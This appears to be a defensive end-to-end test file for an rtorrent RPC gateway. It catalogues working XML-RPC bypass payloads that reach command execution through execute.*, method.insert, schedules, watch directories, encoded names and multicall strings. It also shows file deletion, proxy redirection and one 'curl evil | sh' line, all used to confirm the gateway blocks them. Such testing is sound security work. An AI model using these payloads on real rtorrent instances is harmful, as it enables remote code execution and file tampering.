/**
 * The bypass catalogue of the rtorrent RPC reference (shared/docs/rtorrent-rpc.md §6), against every
 * rtorrent release in rtorrentBuilds(): Debian's 0.9.8 and the current 0.16.20. Every attack is first
 * shown to work: sent straight to one rtorrent of that release over SCGI, it leaves its mark on disk
 * (a file touched by `execute.throw=touch,…`, a log file, a deleted file, a new working directory...).
 * The same request is then sent through the gateway, to a second rtorrent of the same release, as the
 * `standard` and the `readonly` user: each must get a policy fault (HTTP 200) naming the refused
 * method, the user and the policy, leave a warn line in the log, and leave no mark.
 * test/unit/policy-bypass.test.ts checks the same catalogue against the policy engine alone; this file
 * shows that the payloads are real and that the gateway stops them end to end.
 *
 * The releases do not take the same payloads. Where a spelling exists on one release only (execute2
 * and schedule2 are 0.9.8 names that 0.16.20 keeps only under -D; log.print, log.open_file.flush,
 * directory.watch.ready and network.proxy.* are 0.16 commands), the attack is real there and
 * blocked-only on the other, and says why in its name. An attack that cannot be shown on a release
 * at all (commands newer than 0.16.20, routes that need a peer) is blocked-only there.
 */
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, readlinkSync, renameSync, statSync, writeFileSync } from 'node:fs';
import { createServer, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { after, before, describe, it } from 'node:test';
import { basicAuth, post, startGateway, type GatewayTestInstance } from '../helpers/gateway.js';
import { rtorrentBuilds, startRtorrent, type RtorrentBuild, type RtorrentInstance } from '../helpers/rtorrent.js';
import { decodeXmlRpcResponse, faultOf, xmlCall, XmlRpcFault, type XmlParam, type XmlRpcDecoded } from '../helpers/scgi-direct.js';
import { infoHashOf, makeTorrentBytes } from '../helpers/torrents.js';

// Throws in CI when either release is missing, so the file fails there instead of skipping.
const BUILDS = rtorrentBuilds();

/** What one attack gets to aim at: a fresh directory on the rtorrent host, and that rtorrent. */
interface Target {
  readonly rt: RtorrentInstance;
  /** the release of `rt`: "0.9.8", "0.16.20" */
  readonly version: string;
  /** a fresh, empty directory for this attack on this rtorrent */
  readonly dir: string;
  /** the file the attack tries to create */
  readonly marker: string;
  /** a torrent loaded (stopped) in that rtorrent */
  readonly hash: string;
  /** the command string that creates the marker: `execute.throw=touch,<marker>` */
  readonly exec: string;
  /** unique per target, for names the attack defines (methods, views, log outputs, schedules) */
  readonly tag: string;
  /** bytes of a torrent nobody has loaded yet */
  freshTorrent(): Buffer;
  /** an http:// URL on the test host serving a torrent nobody has loaded yet */
  freshTorrentUrl(): string;
  /** loads a fresh torrent, stopped, as the administrator would, and returns its hash */
  loadTorrent(): Promise<string>;
  /** hashes that loadTorrent() loaded for this target, in order */
  readonly loaded: string[];
  /** what arrange() read from rtorrent for cleanup() to put back */
  readonly saved: Map<string, XmlRpcDecoded>;
  /** loads a fresh torrent by http:// URL, as the administrator would, once it is listed */
  loadTorrentUrl(): Promise<string>;
  /**
   * Opens an HTTP proxy of the attacker's own for this target, which records every request and
   * serves the torrents as the torrent server does.
   */
  openProxy(): Promise<void>;
  /** http://127.0.0.1:port of the proxy, once openProxy() has resolved */
  readonly proxyUrl: string;
  /** the URLs the proxy was asked for */
  readonly proxied: string[];
}

/** Why an attack cannot be shown: one reason for every release, or one per release that lacks it. */
type Why = string | Readonly<Record<string, string>>;

interface Attack {
  readonly name: string;
  /** why the effect cannot be shown on a release; the attack is then checked for refusal only there */
  readonly blockedOnly?: Why;
  /** set up what the attack needs on the host (files to import, a watch directory...) */
  arrange?(t: Target): void | Promise<void>;
  /** the XML-RPC requests of the attack, in order; the gateway must refuse every one */
  steps(t: Target): string[];
  /** what happens later without the attacker: the administrator loads a torrent, a file is dropped... */
  afterwards?(t: Target): Promise<void>;
  /** whether the attack worked; by default, whether the marker file exists */
  effect?(t: Target): boolean;
  /** how long the effect may take to show (schedules, watch directories, curl fetches) */
  readonly settleMs?: number;
  /** the method the gateway must name, per policy when they differ */
  readonly refused: string | { readonly standard: string; readonly readonly: string };
  /** undoes a lasting change on the rtorrent used for the proofs, so later proofs stay independent */
  cleanup?(t: Target): Promise<void>;
}

const USERS = [
  { user: 'app', password: 'app-secret', policy: 'standard' },
  { user: 'viewer', password: 'viewer-secret', policy: 'readonly' },
] as const;

/** An encoded <value>, using the harness encoder so that escaping stays in one place. */
function valueXml(param: XmlParam): string {
  const body = xmlCall('x', [param]);
  return body.slice(body.indexOf('<param>') + '<param>'.length, body.lastIndexOf('</param>'));
}

/** xmlCall has no structs; system.multicall members are the only place a client sends them. */
function multicallXml(members: ReadonlyArray<readonly [string, XmlParam[]]>): string {
  const structs = members.map(
    ([method, params]) =>
      `<value><struct><member><name>methodName</name>${valueXml(method)}</member><member><name>params</name>${valueXml(params)}</member></struct></value>`,
  );
  return `<?xml version="1.0"?><methodCall><methodName>system.multicall</methodName><params><param><value><array><data>${structs.join('')}</data></array></value></param></params></methodCall>`;
}

/** A call written by hand, for encodings xmlCall never produces (references, CDATA, comments, untyped values). */
function handXml(methodName: string, params: string[]): string {
  return `<?xml version="1.0"?><methodCall><methodName>${methodName}</methodName><params>${params.map((p) => `<param>${p}</param>`).join('')}</params></methodCall>`;
}
const str = (text: string): string => `<value><string>${text}</string></value>`;

/**
 * Drops an executable script into the target's watch directory. 0.16's libtorrent reports only names
 * ending in .torrent (src/torrent/utils/directory_events.cc); execute.throw runs the file whatever
 * its name.
 */
async function dropScript(t: Target): Promise<void> {
  await sleep(50);
  writeFileSync(join(t.dir, 'drop.torrent'), `#!/bin/sh\ntouch ${t.marker}\n`);
  chmodSync(join(t.dir, 'drop.torrent'), 0o755);
  // A rename is one inotify event with the whole file in place.
  renameSync(join(t.dir, 'drop.torrent'), join(t.dir, 'watch', 'drop.torrent'));
}

/** Where 0.9.8's xmlrpc-c unwraps a nested array, the tinyxml2 reader of 0.16.20 passes it on whole. */
const NESTED_ARRAY = 'not real on 0.16.20, which keeps the nested array whole: "Wrong object type: expected: string actual: list"';

/** How 0.16.20 keeps the 0.9.8 names it renamed. */
const DEPRECATED = 'only under -D (method.use_deprecated, src/main.cc), which a packaged rtorrent does not pass';

const MAGNET = 'magnet:?xt=urn:btih:5a8062c076fa85e8056451c0d9aa04349ae27909&dn=payload&tr=http%3A%2F%2F127.0.0.1%3A9%2Fannounce';

const ATTACKS: Attack[] = [
  // --- execute.* at the top level (§2.1, §6.2) ---------------------------------------------------
  {
    name: 'execute.throw at the top level',
    steps: (t) => [xmlCall('execute.throw', ['', 'touch', t.marker])],
    refused: 'execute.throw',
  },
  {
    name: 'execute2, the real execute command of 0.9.8',
    blockedOnly: { '0.16.20': `not real on 0.16.20, which defines execute2 ${DEPRECATED}` },
    steps: (t) => [xmlCall('execute2', ['', 'touch', t.marker])],
    refused: 'execute2',
  },
  {
    name: 'execute without a target (a 0.9.8 no-target redirect: the first parameter is the program)',
    blockedOnly: { '0.16.20': 'not real on 0.16.20, where execute takes a target like any command and "touch" is none ("invalid target")' },
    steps: (t) => [xmlCall('execute', ['touch', t.marker])],
    refused: 'execute',
  },
  {
    name: 'execute with a target, the 0.16 spelling (there the same command as execute.throw)',
    blockedOnly: { '0.9.8': 'not real on 0.9.8, where execute takes no target and would run the program ""' },
    steps: (t) => [xmlCall('execute', ['', 'touch', t.marker])],
    refused: 'execute',
  },
  {
    name: 'execute.raw, without ~ expansion',
    steps: (t) => [xmlCall('execute.raw', ['', 'touch', t.marker])],
    refused: 'execute.raw',
  },
  {
    name: 'execute.nothrow.bg, in the background',
    steps: (t) => [xmlCall('execute.nothrow.bg', ['', 'touch', t.marker])],
    settleMs: 400,
    refused: 'execute.nothrow.bg',
  },
  {
    name: 'execute.capture of sh -c, which hands the shell output back to the caller',
    steps: (t) => [xmlCall('execute.capture', ['', 'sh', '-c', `id > ${t.marker}`])],
    refused: 'execute.capture',
  },
  {
    name: 'execute.throw with i8 arguments',
    steps: (t) => [xmlCall('execute.throw', ['', 'touch', t.marker, 1n])],
    refused: 'execute.throw',
  },

  // --- system.multicall members (§6.10) ----------------------------------------------------------
  {
    name: 'execute.throw as the second member of a system.multicall',
    steps: (t) => [multicallXml([['system.client_version', []], ['execute.throw', ['', 'touch', t.marker]]])],
    refused: 'execute.throw',
  },
  {
    name: 'a base64 command string in a system.multicall member',
    steps: (t) => [multicallXml([['d.multicall2', ['', 'main', Buffer.from(t.exec)]]])],
    refused: 'execute.throw',
  },

  // --- command strings of the multicalls (§6.1) --------------------------------------------------
  {
    name: 'execute.throw inside a d.multicall2 command string',
    steps: (t) => [xmlCall('d.multicall2', ['', 'main', 'd.name=', t.exec])],
    refused: 'execute.throw',
  },
  {
    name: 'execute.throw as the filter of d.multicall.filtered',
    steps: (t) => [xmlCall('d.multicall.filtered', ['', 'main', t.exec, 'd.name='])],
    refused: 'execute.throw',
  },
  {
    name: 'execute.throw inside an f.multicall command string',
    steps: (t) => [xmlCall('f.multicall', [t.hash, '', t.exec])],
    refused: 'execute.throw',
  },
  {
    name: 'execute.throw inside a t.multicall command string',
    steps: (t) => [xmlCall('t.multicall', [t.hash, '', t.exec])],
    refused: 'execute.throw',
  },
  {
    name: 'execute.throw inside a p.multicall command string',
    blockedOnly: 'not provable here: rows run once per connected peer and a test rtorrent has none',
    steps: (t) => [xmlCall('p.multicall', [t.hash, '', t.exec])],
    refused: 'execute.throw',
  },
  {
    name: 'd.multicall2 rows wrapped in one array, which xmlrpc-c spreads into arguments',
    blockedOnly: { '0.16.20': NESTED_ARRAY },
    steps: (t) => [xmlCall('d.multicall2', ['', ['main', t.exec]])],
    refused: 'execute.throw',
  },
  {
    name: 'a d.multicall2 row wrapped in a one-element array, which xmlrpc-c unwraps',
    blockedOnly: { '0.16.20': NESTED_ARRAY },
    steps: (t) => [xmlCall('d.multicall2', ['', 'main', [t.exec]])],
    refused: 'execute.throw',
  },
  {
    name: 'blanks and a tab around the command name of a row',
    steps: (t) => [xmlCall('d.multicall2', ['', 'main', ` \texecute.throw =touch,${t.marker}`])],
    refused: 'execute.throw',
  },
  {
    name: 'a second command after ";" in a d.multicall2 row',
    blockedOnly: 'not real on either release: multicall rows run in single-command mode, so only d.name runs',
    steps: (t) => [xmlCall('d.multicall2', ['', 'main', `d.name=;${t.exec}`])],
    refused: 'execute.throw',
  },

  // --- $… inline calls, (…) function calls, {…} lists (§6.3, §6.4) --------------------------------
  {
    name: 'a quoted $execute.throw inline call inside cat',
    steps: (t) => [xmlCall('d.multicall2', ['', 'main', `cat="$${t.exec}"`])],
    refused: 'execute.throw',
  },
  {
    name: 'a $execute.throw inline call with escaped commas inside a getter',
    steps: (t) => [xmlCall('d.multicall2', ['', 'main', `d.name=$execute.throw=touch\\,${t.marker}`])],
    refused: 'execute.throw',
  },
  {
    name: 'a $execute.throw inline call inside a lone {…} list, which is the argument list',
    steps: (t) => [xmlCall('d.multicall2', ['', 'main', `cat={"$${t.exec}"}`])],
    refused: 'execute.throw',
  },
  {
    name: 'a $execute.throw inline call behind a harmless one (cat=$d.views=,"$…")',
    steps: (t) => [xmlCall('d.multicall2', ['', 'main', `cat=$d.views=,"$${t.exec}"`])],
    refused: 'execute.throw',
  },
  {
    name: 'an (execute.throw,…) function call inside a getter argument',
    steps: (t) => [xmlCall('d.multicall2', ['', 'main', `d.name=(execute.throw,touch,${t.marker})`])],
    refused: 'execute.throw',
  },
  {
    name: 'a function call with a quoted name ("execute.throw")',
    steps: (t) => [xmlCall('d.multicall2', ['', 'main', `d.name=("execute.throw",touch,${t.marker})`])],
    refused: 'execute.throw',
  },
  {
    name: 'a function call with an escaped name (exe\\cute.throw)',
    steps: (t) => [xmlCall('d.multicall2', ['', 'main', `d.name=(exe\\cute.throw,touch,${t.marker})`])],
    refused: 'execute.throw',
  },
  {
    name: 'a twice-escaped function name that branch unescapes a second time',
    steps: (t) => [xmlCall('d.multicall2', ['', 'main', `branch=d.name=,{"d.name=(exe\\\\cute.throw,touch,${t.marker})"}`])],
    refused: 'execute.throw',
  },

  // --- load.* trailing commands (§3, §6.5) -------------------------------------------------------
  {
    name: 'an execute.throw command after a label in load.raw_start',
    steps: (t) => [xmlCall('load.raw_start', ['', t.freshTorrent(), 'd.custom1.set=x', t.exec])],
    settleMs: 200,
    refused: { standard: 'execute.throw', readonly: 'load.raw_start' },
  },
  {
    name: 'an execute.throw command after a label in load.start of an http:// URL',
    steps: (t) => [xmlCall('load.start', ['', t.freshTorrentUrl(), 'd.custom1.set=x', t.exec])],
    settleMs: 800,
    refused: { standard: 'execute.throw', readonly: 'load.start' },
  },
  {
    name: 'an execute.throw command after a label in load.start of a magnet',
    blockedOnly: 'not provable here: the commands run when the metadata arrives from peers, and a test rtorrent has none',
    steps: (t) => [xmlCall('load.start', ['', MAGNET, 'd.custom1.set=x', t.exec])],
    refused: { standard: 'execute.throw', readonly: 'load.start' },
  },
  {
    name: 'an execute.throw command hidden behind " ;" in one load.raw_start command string',
    steps: (t) => [xmlCall('load.raw_start', ['', t.freshTorrent(), `d.custom1.set=x ;${t.exec}`])],
    settleMs: 200,
    refused: { standard: 'execute.throw', readonly: 'load.raw_start' },
  },
  {
    name: 'an execute.throw command hidden behind a newline in one load.raw_start command string',
    steps: (t) => [xmlCall('load.raw_start', ['', t.freshTorrent(), `d.custom1.set=x\n${t.exec}`])],
    settleMs: 200,
    refused: { standard: 'execute.throw', readonly: 'load.raw_start' },
  },
  {
    name: 'a load.raw_start directory computed by an inline call (d.directory.set="$execute.throw=…")',
    steps: (t) => [xmlCall('load.raw_start', ['', t.freshTorrent(), `d.directory.set="$${t.exec}"`])],
    settleMs: 200,
    refused: { standard: 'd.directory.set', readonly: 'load.raw_start' },
  },
  {
    name: 'an autobrr-style load.raw_start("", [torrent, command]) that xmlrpc-c flattens',
    blockedOnly: { '0.16.20': NESTED_ARRAY },
    steps: (t) => [xmlCall('load.raw_start', ['', [t.freshTorrent(), t.exec]])],
    settleMs: 200,
    refused: { standard: 'execute.throw', readonly: 'load.raw_start' },
  },

  // --- stored code: method.*, schedules, events, views (§6.9) ------------------------------------
  {
    name: 'method.insert of a method running execute.throw, then a call of it',
    steps: (t) => [xmlCall('method.insert', ['', `evil_${t.tag}`, 'simple', t.exec]), xmlCall(`evil_${t.tag}`, [''])],
    refused: 'method.insert',
  },
  {
    name: 'method.redirect of a new name to execute.throw, then a call of it',
    steps: (t) => [xmlCall('method.redirect', ['', `alias_${t.tag}`, 'execute.throw']), xmlCall(`alias_${t.tag}`, ['', 'touch', t.marker])],
    refused: 'method.redirect',
  },
  {
    name: 'method.set replacing the body of group.seeding.ratio.command, then a call of it',
    steps: (t) => [xmlCall('method.set', ['', 'group.seeding.ratio.command', t.exec]), xmlCall('group.seeding.ratio.command', [t.hash])],
    arrange: async (t) => {
      t.saved.set('body', await t.rt.call('method.get', ['', 'group.seeding.ratio.command']));
    },
    refused: 'method.set',
    cleanup: async (t) => {
      // The release's own body, so that a later ratio check behaves as shipped.
      await t.rt.call('method.set', ['', 'group.seeding.ratio.command', t.saved.get('body') as XmlParam]).catch(() => undefined);
    },
  },
  {
    name: 'method.set_key adding an event.download.inserted_new handler, fired by the next load',
    steps: (t) => [xmlCall('method.set_key', ['', 'event.download.inserted_new', `evil_${t.tag}`, t.exec])],
    afterwards: async (t) => {
      await t.loadTorrent();
    },
    refused: 'method.set_key',
    cleanup: async (t) => {
      // Without a body, method.set_key removes the key again.
      await t.rt.call('method.set_key', ['', 'event.download.inserted_new', `evil_${t.tag}`]).catch(() => undefined);
    },
  },
  {
    name: 'method.set_key adding an event.download.finished handler, then the event called directly',
    steps: (t) => [
      xmlCall('method.set_key', ['', 'event.download.finished', `evil_${t.tag}`, t.exec]),
      xmlCall('event.download.finished', [t.hash]),
    ],
    refused: 'method.set_key',
    cleanup: async (t) => {
      await t.rt.call('method.set_key', ['', 'event.download.finished', `evil_${t.tag}`]).catch(() => undefined);
    },
  },
  {
    name: 'schedule2 of an execute.throw command one second later',
    blockedOnly: { '0.16.20': `not real on 0.16.20, which defines schedule2 ${DEPRECATED}` },
    steps: (t) => [xmlCall('schedule2', ['', `evil_${t.tag}`, '1', '0', t.exec])],
    settleMs: 1600,
    refused: 'schedule2',
  },
  {
    name: 'schedule, the 0.9.8 no-target alias, one second later',
    blockedOnly: { '0.16.20': 'not real on 0.16.20, where schedule takes a target and the schedule\'s name is none ("invalid target")' },
    steps: (t) => [xmlCall('schedule', [`evil_${t.tag}`, '1', '0', t.exec])],
    settleMs: 1600,
    refused: 'schedule',
  },
  {
    name: 'schedule with a target, the 0.16 spelling, one second later',
    blockedOnly: { '0.9.8': 'not real on 0.9.8, where schedule takes no target, so a fifth argument is one too many ("Wrong number of arguments")' },
    steps: (t) => [xmlCall('schedule', ['', `evil_${t.tag}`, '1', '0', t.exec])],
    settleMs: 1600,
    refused: 'schedule',
  },
  {
    name: 'view.filter storing execute.throw on a view, run by view.filter_all',
    arrange: async (t) => {
      // The administrator's own view: the attacker only has to change its filter.
      await t.rt.call('view.add', ['', `v_${t.tag}`]);
    },
    steps: (t) => [xmlCall('view.filter', ['', `v_${t.tag}`, t.exec]), xmlCall('view.filter_all', [''])],
    refused: 'view.filter',
    cleanup: async (t) => {
      // Left in place, a filter that runs execute.throw makes 0.9.8 crash (a segfault in
      // torrent::Download::tracker_controller, reported as SIGABRT by its handler) when a torrent is
      // loaded and erased straight away, as the d.tied_to_file.set proof below does.
      await t.rt.call('view.filter', ['', `v_${t.tag}`, '']).catch(() => undefined);
    },
  },

  // --- files and import (§2.2, §6.13) -----------------------------------------------------------
  {
    name: 'import of an rc file that runs execute.throw',
    arrange: (t) => writeFileSync(join(t.dir, 'payload.rc'), `${t.exec}\n`),
    steps: (t) => [xmlCall('import', ['', join(t.dir, 'payload.rc')])],
    refused: 'import',
  },
  {
    name: 'try_import of an rc file that runs execute.throw',
    arrange: (t) => writeFileSync(join(t.dir, 'payload.rc'), `${t.exec}\n`),
    steps: (t) => [xmlCall('try_import', ['', join(t.dir, 'payload.rc')])],
    refused: 'try_import',
  },
  {
    name: 'directory.watch.added naming import, then an rc file dropped into the directory',
    arrange: (t) => mkdirSync(join(t.dir, 'watch')),
    steps: (t) => [xmlCall('directory.watch.added', ['', `${join(t.dir, 'watch')}/`, 'import'])],
    afterwards: async (t) => {
      await sleep(50);
      // 0.16's libtorrent passes on only names ending in .torrent (src/torrent/utils/directory_events.cc);
      // import reads the file as an rc file whatever its name.
      writeFileSync(join(t.dir, 'drop.torrent'), `${t.exec}\n`);
      // A rename is one inotify event with the whole file in place.
      renameSync(join(t.dir, 'drop.torrent'), join(t.dir, 'watch', 'drop.torrent'));
    },
    settleMs: 500,
    refused: 'directory.watch.added',
  },
  {
    name: 'directory.watch.added naming execute.throw, then a script dropped into the directory',
    arrange: (t) => mkdirSync(join(t.dir, 'watch')),
    steps: (t) => [xmlCall('directory.watch.added', ['', `${join(t.dir, 'watch')}/`, 'execute.throw'])],
    afterwards: (t) => dropScript(t),
    settleMs: 500,
    refused: 'directory.watch.added',
  },
  {
    name: 'directory.watch.ready naming execute.throw, then a script dropped into the directory',
    blockedOnly: { '0.9.8': 'not in 0.9.8' },
    arrange: (t) => mkdirSync(join(t.dir, 'watch')),
    steps: (t) => [xmlCall('directory.watch.ready', ['', `${join(t.dir, 'watch')}/`, 'execute.throw'])],
    afterwards: (t) => dropScript(t),
    // It runs the command once the file has been left unchanged for 0.5 s (src/utils/watch_ready_queue.h).
    settleMs: 1500,
    refused: 'directory.watch.ready',
  },
  {
    name: 'log.open_file creating (or truncating) a file anywhere',
    steps: (t) => [xmlCall('log.open_file', ['', `log_${t.tag}`, t.marker])],
    refused: 'log.open_file',
  },
  {
    name: 'log.open_file.flush creating (or truncating) a file anywhere',
    blockedOnly: { '0.9.8': 'not in 0.9.8' },
    steps: (t) => [xmlCall('log.open_file.flush', ['', `log_${t.tag}`, t.marker])],
    refused: 'log.open_file.flush',
  },
  {
    name: 'log.append_file creating (or appending to) a file anywhere',
    blockedOnly: { '0.9.8': 'not in 0.9.8' },
    steps: (t) => [xmlCall('log.append_file', ['', `log_${t.tag}`, t.marker])],
    refused: 'log.append_file',
  },
  {
    name: 'log.append_file.flush creating (or appending to) a file anywhere',
    blockedOnly: { '0.9.8': 'not in 0.9.8' },
    steps: (t) => [xmlCall('log.append_file.flush', ['', `log_${t.tag}`, t.marker])],
    refused: 'log.append_file.flush',
  },
  {
    name: 'log.print writing the attacker\'s text into the administrator\'s log file',
    blockedOnly: { '0.9.8': 'not in 0.9.8' },
    arrange: async (t) => {
      // The administrator's own log of the info group, flushed line by line where the release can
      // (0.9.8, which has no log.print, needs the log only for the refusal check).
      const open = t.version === '0.9.8' ? 'log.open_file' : 'log.open_file.flush';
      await t.rt.call(open, ['', `admin_${t.tag}`, join(t.dir, 'admin.log')]);
      await t.rt.call('log.add_output', ['', 'info', `admin_${t.tag}`]);
    },
    steps: (t) => [xmlCall('log.print', ['', 'info', `forged by ${t.tag}`])],
    effect: (t) => readFileSync(join(t.dir, 'admin.log'), 'utf8').includes(`forged by ${t.tag}`),
    refused: 'log.print',
  },
  {
    name: 'log.execute appending every later execute to a file anywhere',
    steps: (t) => [xmlCall('log.execute', ['', t.marker])],
    refused: 'log.execute',
    cleanup: async (t) => {
      await t.rt.call('log.execute', ['', '']).catch(() => undefined);
    },
  },
  {
    name: 'log.xmlrpc writing every later request body to a file anywhere',
    steps: (t) => [xmlCall('log.xmlrpc', ['', t.marker])],
    refused: 'log.xmlrpc',
    cleanup: async (t) => {
      await t.rt.call('log.xmlrpc', ['', '']).catch(() => undefined);
    },
  },
  {
    name: 'log.vmmap.dump creating (or truncating) a file anywhere',
    steps: (t) => [xmlCall('log.vmmap.dump', ['', t.marker])],
    refused: 'log.vmmap.dump',
  },
  {
    name: 'file.append writing to a file anywhere',
    blockedOnly: { '0.16.20': 'not in 0.16.20, which compiles its handler but registers no command for it (src/command_local.cc cmd_file_append)' },
    steps: (t) => [xmlCall('file.append', ['', t.marker, 'curl evil | sh'])],
    refused: 'file.append',
  },
  {
    name: 'log.rpc writing every later request body to a file anywhere',
    blockedOnly: { '0.9.8': 'not in 0.9.8, which calls it log.xmlrpc' },
    steps: (t) => [xmlCall('log.rpc', ['', t.marker])],
    refused: 'log.rpc',
    cleanup: async (t) => {
      await t.rt.call('log.rpc', ['', '']).catch(() => undefined);
    },
  },

  // --- data-only compromises (§6.13) ------------------------------------------------------------
  {
    name: 'load.raw_start with d.directory.set putting the torrent\'s files into a directory of the attacker\'s choosing',
    arrange: (t) => mkdirSync(join(t.dir, 'ssh')),
    steps: (t) => [xmlCall('load.raw_start', ['', t.freshTorrent(), `d.directory.set=${join(t.dir, 'ssh')}`])],
    effect: (t) => readdirSync(join(t.dir, 'ssh')).length > 0,
    settleMs: 500,
    refused: { standard: 'd.directory.set', readonly: 'load.raw_start' },
  },
  {
    name: 'd.tied_to_file.set to a victim file, which the next d.erase deletes',
    arrange: async (t) => {
      writeFileSync(join(t.dir, 'victim'), 'keep me');
      // A torrent of its own, because the proof erases it.
      await t.loadTorrent();
    },
    steps: (t) => [xmlCall('d.tied_to_file.set', [t.loaded[0]!, join(t.dir, 'victim')])],
    afterwards: async (t) => {
      await t.rt.call('d.erase', [t.loaded[0]!]);
    },
    effect: (t) => !existsSync(join(t.dir, 'victim')),
    settleMs: 300,
    refused: 'd.tied_to_file.set',
  },
  {
    name: 'directory.default.set, which decides where the next load writes',
    arrange: (t) => mkdirSync(join(t.dir, 'elsewhere')),
    steps: (t) => [xmlCall('directory.default.set', ['', join(t.dir, 'elsewhere')])],
    afterwards: async (t) => {
      await t.rt.call('load.raw_start', ['', t.freshTorrent()]);
    },
    effect: (t) => readdirSync(join(t.dir, 'elsewhere')).length > 0,
    settleMs: 500,
    refused: 'directory.default.set',
    cleanup: async (t) => {
      await t.rt.call('directory.default.set', ['', join(t.rt.dir, 'download')]);
    },
  },
  {
    name: 'system.cwd.set moving rtorrent\'s working directory',
    steps: (t) => [xmlCall('system.cwd.set', ['', t.dir])],
    effect: (t) => readlinkSync(`/proc/${t.rt.pid}/cwd`) === t.dir,
    refused: 'system.cwd.set',
    cleanup: async (t) => {
      await t.rt.call('system.cwd.set', ['', t.rt.dir]);
    },
  },
  {
    name: 'system.umask.set to 0, which makes the files rtorrent creates next world-writable',
    steps: () => [xmlCall('system.umask.set', ['', '0'])],
    afterwards: async (t) => {
      await t.rt.call('log.open_file', ['', `umask_${t.tag}`, t.marker]);
    },
    effect: (t) => existsSync(t.marker) && (statSync(t.marker).mode & 0o002) !== 0,
    refused: 'system.umask.set',
    cleanup: async (t) => {
      await t.rt.call('system.umask.set', ['', 0o022]);
    },
  },
  {
    name: 'session.path.set moving where session files are written',
    blockedOnly: {
      '0.9.8': 'not real on 0.9.8, which refuses to change the session directory while one is in use',
      '0.16.20': 'not real on 0.16.20, which refuses to change the session path after start-up',
    },
    steps: (t) => [xmlCall('session.path.set', ['', t.dir])],
    refused: 'session.path.set',
  },

  // --- where rtorrent's own connections go, and where it listens ----------------------------------
  // 0.16.20 cannot unset network.proxy.http (an empty URL is an "unsupported proxy scheme"), so the
  // proxy setter that can be undone comes first and every proxy stays up, serving torrents, until
  // the end: a later URL load on the rtorrent used for the proofs still works.
  {
    name: 'network.proxy.global.set sending rtorrent\'s connections, URL loads included, through the attacker\'s proxy',
    blockedOnly: { '0.9.8': 'not in 0.9.8' },
    arrange: (t) => t.openProxy(),
    steps: (t) => [xmlCall('network.proxy.global.set', ['', t.proxyUrl])],
    afterwards: async (t) => {
      await t.loadTorrentUrl();
    },
    effect: (t) => t.proxied.length > 0,
    refused: 'network.proxy.global.set',
    cleanup: async (t) => {
      await t.rt.call('network.proxy.global.set', ['', '']);
    },
  },
  {
    name: 'network.proxy.http.set sending rtorrent\'s URL loads and announces through the attacker\'s proxy',
    blockedOnly: { '0.9.8': 'not in 0.9.8' },
    arrange: (t) => t.openProxy(),
    steps: (t) => [xmlCall('network.proxy.http.set', ['', t.proxyUrl])],
    afterwards: async (t) => {
      await t.loadTorrentUrl();
    },
    effect: (t) => t.proxied.length > 0,
    refused: 'network.proxy.http.set',
  },
  {
    name: 'network.http.proxy_address.set (0.16: a name for network.proxy.http.set) sending URL loads through the attacker\'s proxy',
    arrange: (t) => t.openProxy(),
    steps: (t) => [xmlCall('network.http.proxy_address.set', ['', t.proxyUrl])],
    afterwards: async (t) => {
      await t.loadTorrentUrl();
    },
    effect: (t) => t.proxied.length > 0,
    refused: 'network.http.proxy_address.set',
    cleanup: async (t) => {
      if (t.version === '0.9.8') await t.rt.call('network.http.proxy_address.set', ['', '']);
    },
  },
  {
    name: 'network.scgi.open_local in a command string, opening a second RPC socket without the gateway',
    blockedOnly: 'not real while rtorrent already serves SCGI: a second socket is refused ("SCGI already enabled")',
    steps: (t) => [xmlCall('d.multicall2', ['', 'main', `cat="$network.scgi.open_local=${join(t.dir, 'rpc.socket')}"`])],
    effect: (t) => existsSync(join(t.dir, 'rpc.socket')),
    refused: 'network.scgi.open_local',
  },
  {
    name: 'magnet.path.set choosing where the next magnet\'s metadata is written',
    blockedOnly: { '0.9.8': 'not in 0.9.8' },
    arrange: (t) => mkdirSync(join(t.dir, 'meta')),
    steps: (t) => [xmlCall('magnet.path.set', ['', join(t.dir, 'meta')])],
    afterwards: async (t) => {
      const hash = createHash('sha1').update(t.dir).digest('hex');
      await t.rt.call('load.start', ['', `magnet:?xt=urn:btih:${hash}&dn=meta&tr=http%3A%2F%2F127.0.0.1%3A9%2Fannounce`]);
    },
    effect: (t) => readdirSync(join(t.dir, 'meta')).length > 0,
    settleMs: 500,
    refused: 'magnet.path.set',
    cleanup: async (t) => {
      await t.rt.call('magnet.path.set', ['', '']);
    },
  },

  // --- evaluators at the top level (§6.7) --------------------------------------------------------
  {
    name: 'branch running execute.throw as its taken branch',
    steps: (t) => [xmlCall('branch', ['', 'cat=1', t.exec])],
    refused: 'execute.throw',
  },
  {
    name: 'branch running each element of a list branch',
    steps: (t) => [xmlCall('branch', ['', 'cat=1', ['cat=', t.exec]])],
    refused: 'execute.throw',
  },
  {
    name: 'and running execute.throw as an operand',
    steps: (t) => [xmlCall('and', ['', 'cat=1', t.exec])],
    refused: 'execute.throw',
  },
  {
    name: 'or running execute.throw as an operand',
    steps: (t) => [xmlCall('or', ['', 'false=', t.exec])],
    refused: 'execute.throw',
  },
  {
    name: 'less running execute.throw as an operand',
    steps: (t) => [xmlCall('less', ['', t.exec, 'cat=0'])],
    refused: 'execute.throw',
  },
  {
    name: 'try running execute.throw',
    steps: (t) => [xmlCall('try', ['', t.exec])],
    refused: 'try',
  },
  {
    name: 'catch running execute.throw',
    steps: (t) => [xmlCall('catch', ['', t.exec])],
    refused: 'catch',
  },
  {
    name: 'match running execute.throw as the text to match',
    steps: (t) => [xmlCall('match', ['', t.exec, '.*'])],
    refused: 'match',
  },

  // --- encodings that hide names (§6.11) ---------------------------------------------------------
  {
    name: 'a numeric character reference in the method name (execute&#46;throw)',
    steps: (t) => [handXml('execute&#46;throw', [str(''), str('touch'), str(t.marker)])],
    refused: 'execute.throw',
  },
  {
    name: 'a numeric character reference in a command string (exec&#117;te.throw=…)',
    steps: (t) => [handXml('d.multicall2', [str(''), str('main'), str(`exec&#117;te.throw=touch,${t.marker}`)])],
    refused: 'execute.throw',
  },
  {
    name: 'a CDATA section as the method name',
    steps: (t) => [handXml('<![CDATA[execute.throw]]>', [str(''), str('touch'), str(t.marker)])],
    refused: 'execute.throw',
  },
  {
    name: 'a CDATA section as a command string',
    steps: (t) => [handXml('d.multicall2', [str(''), str('main'), str(`<![CDATA[${t.exec}]]>`)])],
    refused: 'execute.throw',
  },
  {
